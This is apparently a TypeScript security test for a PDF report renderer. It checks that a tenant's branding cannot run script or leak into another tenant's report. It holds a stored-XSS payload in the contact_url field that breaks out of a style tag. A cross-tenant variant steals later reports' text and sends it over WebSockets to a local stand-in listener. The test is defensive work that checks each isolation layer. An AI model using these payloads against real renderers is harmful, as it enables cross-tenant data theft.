import * as net from 'node:net';
import { JobRecord } from '@astro/contracts';
import { Database } from '@astro/database';
import { IsolationLayer, ISOLATION_LAYERS } from '@astro/rendering';
import { useTestPlatform } from './support/fixture';
import { createAccount, eventually, TestApi } from './support/harness';
import { pdfText } from './support/pdf';

/**
 * A tenant's branding must never run as script in the renderer, nor reach another tenant's report
 * (docs/security.md, "The renderer's isolation model"). The reports go through the real API and
 * worker; the worker renders them one after another in its one Chromium.
 */
let db: Database;
let api: TestApi;
let listener: net.Server;
let listenerPort: number;
/** every connection the hostile script's WebSockets made to our local listener (there must be none) */
const connections: string[] = [];

useTestPlatform(
  async (p) => {
    ({ db, api } = p);
    listener = net.createServer((socket) => {
      connections.push(`${socket.remoteAddress}:${socket.remotePort}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listenerPort = (listener.address() as net.AddressInfo).port;
  },
  { worker: true },
);
afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
beforeEach(() => {
  connections.length = 0;
});
afterEach(() => {
  delete process.env.RENDER_ISOLATION_DISABLE;
});

const birth = { date: '1990-05-04', time: '14:30', latitude: 13.7563, longitude: 100.5018, timezoneOffsetMinutes: 420 };

/** The reproducer of the attacker's probe, word for word. */
const REPRODUCER = `https://x.co/</style><script>document.addEventListener('DOMContentLoaded',function(){document.body.prepend('JSRAN|'+navigator.userAgent)})</script>`;

/**
 * The probe's script grown into the cross-tenant attack: it marks its own report, opens a WebSocket
 * to a local listener, and keeps a timer running that, in any later document of the same page,
 * prepends that document's text (STOLEN|…) and sends it out over another WebSocket.
 */
const crossTenantScript = () =>
  `https://x.co/</style><script>document.addEventListener('DOMContentLoaded',function(){document.body.prepend('JSRAN|'+navigator.userAgent)});` +
  `try{new WebSocket('ws://127.0.0.1:${listenerPort}/own')}catch(e){}` +
  `setInterval(function(){var b=document.body;if(b&&!b.dataset.seen){b.dataset.seen='1';var t=b.innerText.slice(0,160);` +
  `if(t.indexOf('Mallory')<0){b.prepend('STOLEN|'+t);try{new WebSocket('ws://127.0.0.1:${listenerPort}/'+encodeURIComponent(t))}catch(e){}}}},1);</script>`;

async function solarReturnPdfText(name: string, branding: Record<string, string>): Promise<string> {
  const { apiKey } = await createAccount(db, { credits: 100 });
  const queued = await api.http.post(
    '/api/v3/reports/solar-return/pdf',
    { birth_subject: birth, target_year: 2026, name, branding },
    { key: apiKey },
  );
  expect(queued.status).toBe(202);
  const job = await eventually(
    async () => {
      const response = await api.http.get(`/api/v3/jobs/${queued.body.job_id}`, { key: apiKey });
      return ['succeeded', 'failed'].includes(response.body.status) ? (response.body as JobRecord) : undefined;
    },
    90_000,
    `report ${queued.body.job_id}`,
  );
  expect(job.status).toBe('succeeded');
  const response = await fetch(api.http.baseUrl + job.artifacts.pdf.url!);
  return pdfText(Buffer.from(await response.arrayBuffer()));
}

/** Mallory's hostile report, then Victoria's ordinary one: the texts of both PDFs. */
async function hostileThenVictim(): Promise<{ hostile: string; victim: string }> {
  const hostile = await solarReturnPdfText('Mallory Moss', {
    brand_name: 'Mallory Stars',
    primary_color: '#aa2222',
    contact_url: crossTenantScript(),
  });
  const victim = await solarReturnPdfText('Victoria Quinn', { brand_name: 'Quinn Clinic', contact_email: 'victoria@quinn.example' });
  return { hostile, victim };
}

function expectNothingRan(pdfs: { hostile: string; victim: string }): void {
  // The victim's report is hers alone: her name and brand, nothing of Mallory's report or script.
  expect(pdfs.victim).toContain('Victoria Quinn');
  expect(pdfs.victim).toContain('Quinn Clinic');
  for (const trace of ['JSRAN', 'STOLEN', 'Mallory', 'HeadlessChrome']) expect(pdfs.victim).not.toContain(trace);
  expect(connections).toEqual([]);
  expectNoScriptOutput(pdfs.hostile);
  expect(pdfs.hostile).toContain('Mallory Stars');
}

/**
 * The script's source is printed in the footer as the tenant's contact URL, so its markers are
 * there as text (`'JSRAN|'+navigator…`); what it would write when run (`JSRAN|Mozilla/5.0 …
 * HeadlessChrome…`, `STOLEN|<text>`) must not be.
 */
function expectNoScriptOutput(text: string): void {
  expect(text).not.toContain('HeadlessChrome');
  expect(text).not.toMatch(/JSRAN\|(?!'\+navigator)/);
  expect(text).not.toMatch(/STOLEN\|(?!'\+t\))/);
}

describe('tenant isolation in the renderer', () => {
  it("prints the probe's contact_url as text: no script runs in the solar-return PDF", async () => {
    const text = await solarReturnPdfText('Somchai Jaidee', { brand_name: 'Probe', contact_url: REPRODUCER });
    expectNoScriptOutput(text);
    expect(text).toContain('Somchai Jaidee');
    // The URL is in the footer as the tenant typed it, as text.
    expect(text).toContain("https://x.co/</style><script>document.addEventListener('DOMContentLoaded',function()");
  });

  it("renders two tenants' jobs in a row: nothing of the hostile first reaches the second, and no WebSocket leaves", async () => {
    expectNothingRan(await hostileThenVictim());
  });

  it.each(ISOLATION_LAYERS)('still stops the attack with the %s layer switched off (the other three hold)', async (layer) => {
    process.env.RENDER_ISOLATION_DISABLE = layer;
    expectNothingRan(await hostileThenVictim());
  });

  it.each(['encoding', 'csp', 'javascript'] as const)('stops the attack with the %s layer alone', async (layer) => {
    process.env.RENDER_ISOLATION_DISABLE = allLayersBut(layer);
    expectNothingRan(await hostileThenVictim());
  });

  it('keeps the next tenant clean and the network closed with the context layer alone; the script then runs in its own report only', async () => {
    process.env.RENDER_ISOLATION_DISABLE = allLayersBut('context');
    const pdfs = await hostileThenVictim();
    for (const trace of ['JSRAN', 'STOLEN', 'Mallory', 'HeadlessChrome']) expect(pdfs.victim).not.toContain(trace);
    expect(connections).toEqual([]);
    expect(pdfs.hostile).toMatch(/JSRAN\|Mozilla/);
  });

  // The control: with every layer off the attack of the probe comes back, so the switch and the
  // checks above are live. It runs last: its script may linger in the shared page.
  it('lets the attack through with every layer switched off', async () => {
    process.env.RENDER_ISOLATION_DISABLE = ISOLATION_LAYERS.join(',');
    const pdfs = await hostileThenVictim();
    expect(pdfs.hostile).toMatch(/JSRAN\|Mozilla/);
    expect(pdfs.victim).toMatch(/STOLEN\|/);
    await eventually(async () => (connections.length >= 2 ? true : undefined), 30_000, 'the WebSockets of the hostile script');
  });
});

const allLayersBut = (layer: IsolationLayer) => ISOLATION_LAYERS.filter((other) => other !== layer).join(',');
